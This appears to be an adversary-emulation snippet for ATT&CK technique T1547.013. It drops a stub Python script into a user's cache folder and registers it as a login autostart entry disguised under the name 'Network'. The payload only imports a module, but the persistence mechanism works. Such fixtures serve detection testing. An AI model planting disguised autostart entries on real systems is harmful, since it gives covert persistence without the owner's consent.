# technique: T1547.013
# location: linux.xdg.user-autostart
# source: /home/lea/.config/autostart/nm-tray.desktop
install -D -o lea /dev/stdin /home/lea/.cache/nm.py <<< 'import socket'
printf '[Desktop Entry]\nType=Application\nName=Network\nExec=sh -c "python3 /home/lea/.cache/nm.py"\n' > /home/lea/.config/autostart/nm-tray.desktop
